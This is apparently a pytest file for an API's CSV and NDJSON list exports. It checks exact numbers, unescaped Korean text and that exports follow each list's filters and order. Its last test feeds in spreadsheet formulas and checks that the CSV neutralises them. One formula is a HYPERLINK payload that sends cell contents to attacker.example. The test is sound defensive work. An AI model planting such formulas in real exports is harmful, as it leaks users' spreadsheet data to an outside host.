"""CSV and NDJSON downloads of lists: exact values, Korean intact, and the list's own filters and order.

Records are synthetic (합성 …) and scoped under organizations and projects made here.
"""

import re
from decimal import Decimal

import orjson
import pytest
import sqlalchemy as sa
from fastapi.testclient import TestClient
from sqlmodel import Session

from app.models import Budget, Metric
from tests.export.conftest import csv_records, csv_rows
from tests.querying.helpers import budget, get_ok, metric, organization, project, walk

BIG = 2**53 - 1  # the largest amount allowed: every digit survives, in every format
KOREAN = '합성 "따옴표", 쉼표와\n줄바꿈이 든 설명 — 약 60억 원'


def list_items(client: TestClient, path: str, **params: str) -> list[dict]:
    return [item for page in walk(client, path, limit=7, **params) for item in page.json()["items"]]


@pytest.fixture
def spending(session: Session) -> dict[str, int]:
    org = organization(session)
    ended = project(session, organization_id=org, status="terminated", name="합성 메타버스")
    live = project(session, organization_id=org, status="active")
    return {
        "org": org, "ended": ended, "live": live,
        "big": budget(session, ended, amount=BIG, amount_text="9천조 원 남짓", description=KOREAN, as_of="2024-Q4"),
        "small": budget(session, ended, amount=6_000_000_000, period_start="2023-01", period_end="2026"),
        "usd": budget(session, live, amount=-5, currency="USD", as_of="2024-12-31"),
        "tie": budget(session, live, amount=6_000_000_000),
    }


def test_csv_has_a_bom_a_header_of_public_names_and_exact_values(export_client: TestClient, spending: dict) -> None:
    response = export_client.get("/v1/budgets", params={"project.organization_id": spending["org"], "format": "csv"})
    assert response.status_code == 200
    assert response.content.startswith(b"\xef\xbb\xbfid,created_at,")
    header = csv_rows(response.content)[0]
    assert header[:10] == ["id", "created_at", "updated_at", "version", "project_id", "kind", "amount", "currency",
                           "qualifier", "amount_text"]
    assert "as_of_precision" in header and "as_of_earliest" in header and "period_start_earliest" not in header[:12]
    assert not {"citations", "project"} & set(header)
    by_id = {int(record["id"]): record for record in csv_records(response.content)}
    big = by_id[spending["big"]]
    assert big["amount"] == str(BIG) and big["currency"] == "KRW" and big["qualifier"] == "exact"
    assert big["description"] == KOREAN and big["amount_text"] == "9천조 원 남짓"
    assert (big["as_of"], big["as_of_precision"], big["as_of_earliest"], big["as_of_latest"]) == (
        "2024-Q4", "quarter", "2024-10-01", "2024-12-31")
    assert big["period_start"] == big["period_start_precision"] == big["period_end_text"] == ""  # missing: empty
    assert by_id[spending["usd"]]["amount"] == "-5" and by_id[spending["usd"]]["as_of_precision"] == "day"
    assert re.fullmatch(r"\d{4}-\d{2}-\d{2}T[\d:.]+\+00:00", big["created_at"])


def test_csv_text_is_the_database_text(export_client: TestClient, session: Session, spending: dict) -> None:
    rows = session.execute(sa.select(Budget.id, Budget.description, Budget.amount_text)
                           .where(Budget.project_id.in_([spending["ended"], spending["live"]]))).all()
    records = {int(r["id"]): r for r in csv_records(export_client.get(
        "/v1/budgets", params={"project.organization_id": spending["org"], "format": "csv"}).content)}
    for budget_id, description, amount_text in rows:
        assert records[budget_id]["description"] == (description or "")
        assert records[budget_id]["amount_text"] == (amount_text or "")


def test_csv_decimals_and_json_fields_are_exact_text(export_client: TestClient, session: Session) -> None:
    made = project(session, organization_id=organization(session))
    tiny = metric(session, made, value="0.000000000001", dimensions={"채널": "콜센터", "n": 2})
    huge = metric(session, made, value="123456789012345678901234567890.5")
    records = {int(r["id"]): r for r in csv_records(
        export_client.get("/v1/metrics", params={"project_id": made, "format": "csv"}).content)}
    assert records[tiny]["value"] == "0.000000000001"
    assert records[huge]["value"] == "123456789012345678901234567890.5"
    assert orjson.loads(records[tiny]["dimensions"]) == {"채널": "콜센터", "n": 2}
    assert "채널" in records[tiny]["dimensions"]  # not \u-escaped
    stored = session.execute(sa.select(Metric.value).where(Metric.id == huge)).scalar_one()
    assert Decimal(records[huge]["value"]) == stored


@pytest.mark.parametrize("params", [
    {"sort": "-amount,kind"}, {"sort": "as_of"}, {"amount__gte": "6000000000", "sort": "-amount"},
    {"project.status": "terminated"}, {"currency__in": "USD,EUR"}, {"sort": "-id"}, {},
])
def test_exports_have_the_lists_filters_and_order(export_client: TestClient, spending: dict, params: dict) -> None:
    scope = {"project.organization_id": str(spending["org"]), **params}
    listed = list_items(export_client, "/v1/budgets", **scope)
    csv_ids = [int(r["id"]) for r in csv_records(export_client.get("/v1/budgets", params={**scope, "format": "csv"}).content)]
    ndjson = export_client.get("/v1/budgets", params={**scope, "format": "ndjson"})
    assert csv_ids == [item["id"] for item in listed]
    assert [orjson.loads(line) for line in ndjson.content.splitlines()] == listed


def test_ndjson_lines_are_the_list_items_with_korean_unescaped(export_client: TestClient, spending: dict) -> None:
    scope = {"project_id": str(spending["ended"]), "sort": "-amount"}
    response = export_client.get("/v1/budgets", params={**scope, "format": "ndjson"})
    assert response.headers["content-type"] == "application/x-ndjson"
    assert response.content.endswith(b"\n") and "약 60억 원".encode() in response.content
    assert b"\\u" not in response.content
    lines = [orjson.loads(line) for line in response.content.splitlines()]
    assert lines == get_ok(export_client, "/v1/budgets", **scope)["items"]
    assert lines[0]["amount"] == BIG  # an exact integer, not a float


def test_fields_apply_to_both_formats(export_client: TestClient, spending: dict) -> None:
    scope = {"project_id": str(spending["ended"]), "fields": "as_of,amount", "sort": "amount"}
    assert csv_rows(export_client.get("/v1/budgets", params={**scope, "format": "csv"}).content) == [
        ["id", "as_of", "as_of_precision", "as_of_earliest", "as_of_latest", "as_of_text", "amount"],
        [str(spending["small"]), "", "", "", "", "", "6000000000"],
        [str(spending["big"]), "2024-Q4", "quarter", "2024-10-01", "2024-12-31", "", str(BIG)],
    ]
    lines = export_client.get("/v1/budgets", params={**scope, "format": "ndjson"}).content.splitlines()
    assert [orjson.loads(line) for line in lines] == get_ok(export_client, "/v1/budgets", **scope)["items"]


def test_an_empty_result_is_a_header_only(export_client: TestClient) -> None:
    response = export_client.get("/v1/budgets", params={"amount__lt": "-9000000000000000000", "format": "csv"})
    assert csv_rows(response.content) == [csv_rows(response.content)[0]] and len(csv_rows(response.content)[0]) > 10
    assert export_client.get("/v1/budgets", params={"id": "2147483647", "format": "ndjson"}).content == b""


def test_downloads_are_attachments_named_after_the_list_and_the_day(export_client: TestClient) -> None:
    for fmt in ("csv", "ndjson"):
        disposition = export_client.get(f"/v1/statement-links?format={fmt}").headers["content-disposition"]
        assert re.fullmatch(rf'attachment; filename="statement-links-20\d{{6}}\.{fmt}"', disposition)


FORMULAS = ['=HYPERLINK("https://attacker.example/?d="&A1,"출처")', "+SUM(1,2)", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]


def test_csv_cells_a_spreadsheet_would_run_are_neutralised_and_json_is_unchanged(
        export_client: TestClient, session: Session) -> None:
    org = organization(session)
    ids = {project(session, organization_id=org, name=formula, name_en="-5"): formula for formula in FORMULAS}
    budget_id = budget(session, next(iter(ids)), amount=-5, amount_text="-5억 원", currency="USD")
    params = {"organization_id": org, "fields": "name,name_en", "sort": "id"}

    rows = {int(record["id"]): record for record in csv_records(
        export_client.get("/v1/projects", params={**params, "format": "csv"}).content)}
    ndjson = [orjson.loads(line) for line in export_client.get(
        "/v1/projects", params={**params, "format": "ndjson"}).content.splitlines()]
    budgets = csv_records(export_client.get("/v1/budgets", params={"id": budget_id, "format": "csv"}).content)

    assert {id_: row["name"] for id_, row in rows.items()} == {id_: "'" + formula for id_, formula in ids.items()}
    assert {row["name_en"] for row in rows.values()} == {"-5"}  # a number is left a number
    assert {item["id"]: item["name"] for item in ndjson} == ids
    assert (budgets[0]["amount"], budgets[0]["amount_text"]) == ("-5", "'-5억 원")
